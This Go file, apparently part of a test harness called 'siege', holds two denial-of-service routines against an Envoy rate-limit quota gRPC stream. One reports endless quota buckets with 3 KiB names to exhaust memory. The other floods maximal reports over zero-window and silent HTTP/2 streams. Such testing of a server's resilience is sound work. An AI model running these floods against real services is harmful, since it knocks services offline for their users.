//go:build linux

package siege

import (
	"fmt"
	"math"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"google.golang.org/protobuf/encoding/protowire"
)

const streamQuotas = "/envoy.service.rate_limit_quota.v3.RateLimitQuotaService/StreamRateLimitQuotas"

// Attacks on the streams of quotas.
var quotaAttacks = []attack{
	{
		letter: "D", name: "quota buckets without end", does: "streams that report new quota buckets with names of 3 KiB, until they are more than the service's memory",
		rules: quotaRules, strike: newBuckets,
	},
	{
		letter: "K", name: "floods of quota reports", does: "streams that report 2^63 requests of each of 1,000 quota buckets, again and again, and read no answer; as many silent ones",
		rules: quotaRules, strike: reportFlood,
	},
}

const quotaRules = "- {key: bucket, rate_limit: {unit: second, requests_per_unit: 100}}\nquota_buckets: true\n"

// usage is a BucketQuotaUsage with n allowed requests.
func usage(bucket string, n uint64) string {
	id := field(1, field(1, "bucket")+field(2, bucket))
	numbers := protowire.AppendVarint(protowire.AppendTag(nil, 3, protowire.VarintType), n)
	return field(2, field(1, id)+string(numbers))
}

// newBuckets reports buckets that nobody has reported before.
func newBuckets(x *trial) {
	list := x.wires(pick(x, 8, 16), true)
	defer hangUp(list)
	const inMessage, nameBytes = 100, 3 << 10
	each := (320 << 20) / (inMessage * nameBytes) / max(len(list), 1) // more than the memory, together
	var sent, closed atomic.Int64
	together(list, func(i int, w *wire) {
		stream, err := w.open(streamQuotas)
		for n := 0; n < each && err == nil; n++ {
			var b strings.Builder
			b.WriteString(field(1, "siege"))
			for k := range inMessage {
				b.WriteString(usage(fmt.Sprintf("%d %d %d %s", i, n, k, strings.Repeat("v", nameBytes)), 1))
			}
			if err = w.data(stream, message(false, []byte(b.String())), false); err == nil {
				sent.Add(inMessage)
			}
		}
		if err != nil {
			closed.Add(1)
		}
	})
	x.awaitSample()
	x.note("%d buckets were reported, %d of %d connections were closed for it", sent.Load(), closed.Load(), len(list))
}

// reportFlood reports the largest numbers for the same buckets. Half of the connections give answers no window.
func reportFlood(x *trial) {
	list := append(x.wires(pick(x, 3, 8), true), x.wires(pick(x, 3, 8), true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})...)
	silent := x.wires(len(list), true)
	defer hangUp(append(list, silent...))
	for _, w := range silent {
		for range 20 { // more than a connection may have
			if _, err := w.open(streamQuotas); err != nil {
				break
			}
		}
	}
	report := field(1, "siege")
	for k := range 1000 {
		report += usage(fmt.Sprint(k), math.MaxInt64+1)
	}
	content := message(false, []byte(report))
	end := time.Now().Add(pick(x, time.Second, 10*time.Second))
	var reports atomic.Int64
	together(list, func(_ int, w *wire) {
		stream, err := w.open(streamQuotas)
		for err == nil && time.Now().Before(end) {
			if err = w.data(stream, content, false); err == nil {
				reports.Add(1)
			}
		}
	})
	x.note("%d reports of 1,000 buckets were sent", reports.Load())
}
